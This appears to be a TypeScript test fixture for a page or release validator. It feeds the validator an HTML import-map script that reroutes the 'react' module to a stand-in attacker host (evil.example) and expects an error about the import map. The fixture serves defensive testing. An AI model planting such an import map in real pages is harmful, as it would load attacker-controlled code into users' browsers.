import { hostilePage } from './hostile-release'

/** Has every module that is imported later come from elsewhere. */
export const release = hostilePage(
  '<script type="importmap">{"imports":{"react":"https://evil.example/react.js"}}</script>',
  /page \/courses of catalog\/courses-page \(catalog@0\.2\.0\) has a script of the type "importmap"/,
)
